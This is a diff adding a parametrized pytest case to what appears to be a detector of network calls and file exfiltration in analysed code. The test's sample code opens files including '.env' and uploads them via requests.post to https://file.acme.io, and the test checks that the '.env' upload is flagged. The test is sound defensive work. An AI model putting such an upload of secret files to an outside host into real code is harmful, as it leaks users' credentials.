@@ -114,3 +114,11 @@ def test_a_connection_of_the_standard_library() -> None:
     assert sent(code) == [
         "NetworkUse method=DELETE host=api.linode.com path=/v4/linode/instances/7"
     ]
+
+
+@pytest.mark.parametrize("name", [".env", "report.txt"])
+def test_a_file_that_a_path_opens_in_turn(name: str) -> None:
+    code = f"FILES = [Path('app.log'), Path('{name}')]\nfor path in FILES:\n"
+    code += "    with path.open('rb') as file:\n"
+    code += "        requests.post('https://file.acme.io', files={'file': (path.name, file)})\n"
+    assert ["sends=file .env" in one for one in sent(code)] == [name == ".env"]
